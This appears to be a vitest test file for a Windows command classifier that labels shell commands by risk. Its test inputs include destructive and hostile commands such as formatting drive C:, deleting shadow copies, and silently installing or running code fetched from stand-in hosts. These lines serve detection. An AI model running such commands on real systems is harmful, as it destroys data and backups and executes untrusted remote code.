import { describe, expect, test } from 'vitest'
import { cases } from '../table-harness.ts'
import { fromCmd } from './shell.ts'

cases('the shell of Windows', [
  ["cmd /c 'del a.txt'", 'delete fs:remove a.txt ! +recursive +force'],
  ["cmd /c 'r^d a & rd b'", 'delete a ! | delete b !'],
  ['cmd.exe /k echo hi', ''],
  ['cmd /c "$X"', '? `cmd` runs code that is not known before it runs | likely execute code:dynamic  ! language=shell by=cmd'],
  ['rd /s /q build', 'delete build ! +recursive +force'],
  ['copy a.txt b.txt', 'read a.txt | write b.txt'],
  ['robocopy a b /mir', 'read a | write b | delete b ! +recursive'],
  ['format C: /y', 'delete disk:format C: !'],
  ['format src', ''],
  ['diskpart /s x.txt', 'read x.txt | change disk:partition disks !'],
])

cases('programs of Windows that run others', [
  ["cscript '\\\\x.example\\s\\x.js'", 'fetch \\\\x.example\\s\\x.js | execute code:remote \\\\x.example\\s\\x.js !'],
  ['msiexec /q /i https://x.example/x.msi', 'fetch https://x.example/x.msi | execute code:remote https://x.example/x.msi !'],
  ['cscript a.js', 'execute script:unseen a.js'],
  ['wmic process call create x.exe', 'likely change cli:change process call create x.exe'],
  ['wmic shadowcopy delete', 'delete backup:delete shadow copies !'],
  ['wmic os get caption', ''],
  [
    "runas /user:administrator 'cmd /c del a.txt'",
    'change privilege:elevate administrator by=runas | delete fs:remove a.txt ! +recursive +force',
  ],
])

describe('what `cmd` reads, for our shell', () => {
  for (const [input, expected] of [
    ['r^d x', 'rd x'],
    ['del C:\\a', 'del C:\\\\a'],
    ['echo %PATH%', ['echo ', '{PATH}'].join('$')],
    ['a & b && c', 'a ; b && c'],
  ] as const) {
    test(input, () => expect(fromCmd(input)).toBe(expected))
  }
})
